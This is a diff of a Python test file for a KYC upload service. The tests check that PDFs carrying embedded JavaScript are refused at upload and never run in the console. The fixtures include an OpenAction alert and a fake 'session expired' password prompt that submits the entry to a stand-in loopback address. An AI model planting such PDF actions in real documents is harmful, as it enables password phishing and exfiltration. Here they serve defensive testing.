@@ -5,6 +5,7 @@ side asserts what a person sees (and axe-core, the CSP, no console error,
 no failed request, phone width); this side asserts what was stored and
 audited."""
 
+import base64
 import json
 import os
 import shutil
@@ -13,6 +14,7 @@ import subprocess
 import requests
 from bson import ObjectId
 
+import scans
 import sealed
 from api import AUDITOR_PASSWORD, admin, unique_email
 from stack import SRCDIR
@@ -103,35 +105,13 @@ def test_console_journeys_in_chromium(fresh_stack):
 
 # -- hostile documents: nothing of a document runs in the console -------------
 
-def hostile_pdf(catalog_extra="", page_extra=""):
-    """A one-page PDF with a black box drawn on it and, in its catalog or its
-    page, whatever actions the caller puts there."""
-    content = b"0 0 0 rg 40 600 300 120 re f"
-    objects = [
-        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra.encode() + b" >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
-        + page_extra.encode() + b" >>",
-        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
-    ]
-    out, offsets = b"%PDF-1.7\n", []
-    for i, o in enumerate(objects):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n" % (i + 1) + o + b"\nendobj\n"
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
-    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
-    return out
-
-
 # The probe's two: an alert on opening, and a fake "session expired" prompt
 # whose answer is sent elsewhere (to a loopback address that is not ours).
 HOSTILE_PDFS = [
-    hostile_pdf(catalog_extra='/OpenAction << /S /JavaScript /JS (app.alert\\("owned"\\);) >>'),
-    hostile_pdf(page_extra='/AA << /O << /S /JavaScript /JS (var p = app.response\\("Session '
-                'expired, re-enter your password"\\); this.submitForm\\("http://127.0.0.2:9/s?p=" '
-                '+ p\\);) >> >>'),
+    scans.pdf(catalog='/OpenAction << /S /JavaScript /JS (app.alert\\("owned"\\);) >>'),
+    scans.pdf(page='/AA << /O << /S /JavaScript /JS (var p = app.response\\("Session expired, '
+              're-enter your password"\\); this.submitForm\\("http://127.0.0.2:9/s?p=" + p\\);) '
+              '>> >>'),
 ]
 
 
@@ -157,6 +137,12 @@ def test_a_stored_hostile_pdf_never_runs_in_the_console(fresh_stack):
     kycs = []
     for data in HOSTILE_PDFS:
         _, auth = customer(stack)
+        # Today the service refuses them...
+        r = stack.post("/kyc/upload", headers=auth, json=dict(
+            document("passport"), document_data=base64.b64encode(data).decode()))
+        assert r.status_code == 422, r.text
+        assert r.json()["detail"][0]["msg"].startswith("The PDF contains"), r.text
+        # ...one stored before (here: put in place of a good one) never runs.
         r = stack.post("/kyc/upload", json=document("passport"), headers=auth)
         assert r.status_code == 200, r.text
         kid = ObjectId(r.json()["kyc_id"])
